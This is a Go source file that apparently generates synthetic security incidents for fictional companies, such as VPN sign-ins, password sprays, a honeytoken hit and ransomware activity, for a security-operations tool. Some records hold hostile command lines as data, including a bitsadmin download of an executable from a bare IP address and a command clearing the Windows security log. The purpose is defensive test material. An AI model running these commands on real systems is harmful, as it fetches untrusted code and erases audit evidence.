package sample

// routine is a small incident of the kind that fills most of a queue: one alert, one device or mailbox.
type routine struct {
	id, title, severity, status string
	tenant                      tenant
	product                     product
	ago                         float64 // seconds since its first activity
	account, name               string
	host                        string // "" = no device
	description, action         string
	category, technique         string
	engine, threat              string
	closed                      string // investigation state of a resolved one
	program, command            string
}

// routines are the everyday incidents, oldest last.
func routines() []routine {
	co, f, n := contoso(), fabrikam(), northwind()
	return []routine{
		{id: "5223", title: "Suspicious sign-in to a VPN portal", severity: "low", tenant: co, product: sentinel(), ago: 24 * minute,
			account: "k.ferrara", name: "Katia Ferrara", category: "InitialAccess", technique: "T1133",
			description: "Eleven refused sign-ins were followed by one that succeeded.", action: "Ask the user."},
		{id: "1884", title: "Unusual number of deleted files", severity: "medium", tenant: f, product: cloudApps(), ago: 70 * minute,
			account: "t.abara", name: "Tunde Abara", category: "Impact", technique: "T1485",
			description: "One account deleted 1,940 files of a shared library in ten minutes.",
			action:      "Restore the library if the user did not mean it."},
		{id: "7521", title: "Suspicious use of bitsadmin", severity: "medium", tenant: n, product: endpoint(), ago: 2 * hour, account: "d.kowalczyk",
			name: "Dorota Kowalczyk", host: "NW-OFF-21", category: "DefenseEvasion", technique: "T1197",
			description: "A transfer job fetched a program from a bare address.", action: "Look at the program.", program: "bitsadmin.exe",
			command: `bitsadmin /transfer u /download http://203.0.113.31/u.exe C:\Users\Public\u.exe`},
		{id: "5216", title: "'Adposhel' unwanted software was blocked", severity: "low", status: "resolved", tenant: co, product: endpoint(),
			ago: 5 * hour, account: "o.nilsen", name: "Oda Nilsen", host: "mkt-lt-009", category: "UnwantedSoftware",
			description: "Antivirus blocked an installer that changes the browser.", action: "None.", engine: "antivirus", threat: "PUA:Win32/Adposhel",
			closed: "successfullyRemediated", program: "FreeConvert_Setup.exe", command: `FreeConvert_Setup.exe /S`},
		{id: "1878", title: "Honeytoken account was used", severity: "high", tenant: f, product: identity(), ago: 6 * hour, account: "old-backup",
			name: "Backup (decoy)", host: "FH-JUMP-01", category: "CredentialAccess", technique: "T1078.002",
			description: "An account that exists only to be noticed tried to sign in from a jump host.", action: "Find out who is on the jump host."},
		{id: "7511", title: "Password spray against one account", severity: "medium", tenant: n, product: entraID(), ago: 8 * hour,
			account: "m.vance", name: "Morgan Vance", category: "CredentialAccess", technique: "T1110.003",
			description: "The account is one of forty that were tried with the same few passwords.", action: "Check that a second factor is on."},
		{id: "5203", title: "Malware campaign detected after delivery", severity: "medium", tenant: co, product: office365(), ago: 13 * hour,
			account: "i.petrov", name: "Ivan Petrov", category: "InitialAccess", technique: "T1566.001",
			description: "An attachment of a delivered message was found to be part of a campaign -V1.0.0.2", action: ""},
		{id: "1870", title: "Security log was cleared", severity: "medium", status: "inProgress", tenant: f, product: endpoint(), ago: 20 * hour,
			account: "adm-west", name: "Admin West", host: "FH-APP-11", category: "DefenseEvasion", technique: "T1070.001",
			description: "The security log of a server was emptied outside a change window.", action: "Compare with the forwarded log.",
			program: "wevtutil.exe", command: `wevtutil cl Security`},
		{id: "7497", title: "Remote management tool seen for the first time", severity: "informational", tenant: n, product: endpoint(),
			ago: 30 * hour, account: "helpdesk1", name: "Help desk", host: "NW-OFF-03", category: "CommandAndControl", technique: "T1219",
			description: "A tool that lets others control the device was installed.", action: "Check with the help desk.", program: "QuickAssistPlus.exe",
			command: `"QuickAssistPlus.exe" --unattended`},
		{id: "5190", title: "Suspicious inbox manipulation rule", severity: "medium", status: "resolved", tenant: co, product: cloudApps(),
			ago: 44 * hour, account: "r.dasilva", name: "Rui da Silva", category: "DefenseEvasion", technique: "T1564.008",
			description: "A rule moves every message with the word invoice to a folder that nobody reads.", action: "Ask the user.", closed: "benign"},
		{id: "1859", title: "Suspected brute-force attack (Kerberos)", severity: "low", status: "resolved", tenant: f, product: identity(),
			ago: 3 * day, account: "scanner", name: "Scanner", host: "FH-SCAN-2", category: "CredentialAccess", technique: "T1110",
			description: "A device asked for tickets of many accounts in a short time.", action: "Check the service on the device.", closed: "benign"},
		{id: "7466", title: "Possible ransomware activity", severity: "high", status: "resolved", tenant: n, product: endpoint(), ago: 5 * day,
			account: "p.osei", name: "Peter Osei", host: "NW-LAB-02", category: "Impact", technique: "T1486",
			description: "A program rewrote many files of a share and was stopped. The share was restored from a copy.", action: "Isolate the device.",
			closed: "partiallyRemediated", program: "fsutil2.exe", command: `fsutil2.exe \\nw-store\lab /r`},
	}
}

// everyday are the small incidents. Later the newest two are taken on and one open one is closed.
func everyday(c clock) []scenario {
	var list []scenario
	for i, x := range routines() {
		t := c.from(x.ago)
		in := x.incident(t, c)
		s := scenario{first: []incident{in}}
		if i < 3 {
			at := c.from(float64(4-i) * minute).recorded(0)
			next := in
			next.updated, next.status, next.assignedTo = at, "inProgress", "shift-b@"+x.tenant.domain
			next.alerts = []alert{in.alerts[0]}
			next.alerts[0].status, next.alerts[0].assignedTo, next.alerts[0].updated = "inProgress", next.assignedTo, at
			if i == 2 {
				next.status, next.classification, next.determination = "resolved", "truePositive", "unwantedSoftware"
				next.alerts[0] = next.alerts[0].resolve(at, next.assignedTo, "successfullyRemediated")
				next.alerts[0].evidence = judged(next.alerts[0].evidence, "malicious", "remediated")
			}
			s.later = []incident{next}
		}
		list = append(list, s)
	}
	return list
}

// incident tells a routine case in full.
func (x routine) incident(t timeline, c clock) incident {
	who := person{tenant: x.tenant, account: x.account, name: x.name}
	r := noted(t.recorded(7 * minute))
	a := alert{
		key: "routine/" + x.tenant.domain + x.id, product: x.product, engine: x.engine, threat: x.threat, oldID: x.engine == "antivirus",
		title: x.title, severity: x.severity, first: t.at(0), last: t.at(40), created: r.at, updated: r.at,
		description: x.description, actions: []string{x.action}, categories: []string{x.category},
	}
	if x.technique != "" {
		a.mitre = []string{x.technique}
	}
	name := x.title + " involving one user"
	if x.host != "" {
		d := &device{tenant: x.tenant, host: x.host, platform: "Windows11", version: "24H2", build: 26100, group: "Standard", risk: "low",
			localIP: "10.30." + digits("net/"+x.host, 2) + "." + digits("ip/"+x.host, 2), externalIP: "192.0.2.14", firstSeen: c.from(300 * day).at(0),
			loggedOn: []person{who}}
		a.evidence, name = append(a.evidence, d.evidence(r.suspicious("none").primary())), x.title+" on one endpoint"
		a.evidence = append(a.evidence, x.run(d, who, t, r)...)
	}
	a.evidence = append(a.evidence, who.evidence(r.suspicious("none")))
	if x.product == office365() {
		m := mail{key: "routine/" + x.id, to: who, subject: "Packing list and photos", direction: "inbound", senderIP: "203.0.113.40",
			received: t.whole(0), action: "delivered", location: "inbox", from: sender{"dispatch@spedition.example", "Dispatch", "spedition.example"},
			attachments: 2, threats: []string{"Malware"}}
		a.evidence = append(a.evidence, m.evidence(r.malicious("active")), mailbox(r, who))
	} else if x.host == "" {
		a.evidence = append(a.evidence, ip(r.suspicious("none"), "203.0.113."+digits("ip/"+x.id, 2), nil))
	}
	in := incident{tenant: x.tenant, id: x.id, name: name, severity: x.severity, status: x.status, created: r.at, updated: r.at,
		priority: map[string]int{"high": 74, "medium": 40, "low": 15, "informational": 2}[x.severity]}
	if x.closed != "" {
		at := t.recorded(50 * minute)
		a, in.updated = a.resolve(at, "shift-a@"+x.tenant.domain, x.closed), at
	}
	in.alerts = []alert{a}
	return in
}

// run is what ran on the device, if anything did.
func (x routine) run(d *device, who person, t timeline, r record) []object {
	if x.program == "" {
		return nil
	}
	parent := &process{device: d, user: who, id: 4200, started: t.at(-hour), image: microsoft(`C:\Windows`, "explorer.exe", 3191352)}
	image := file{folder: `C:\Users\Public`, name: x.program, size: 512000 + int64(len(x.title))*4096}
	return []object{parent.child(8000+int64(len(x.command))*4, t.at(0), image, x.command).evidence(r.suspicious("active")),
		image.on(*d, r.suspicious("active"), "detected")}
}
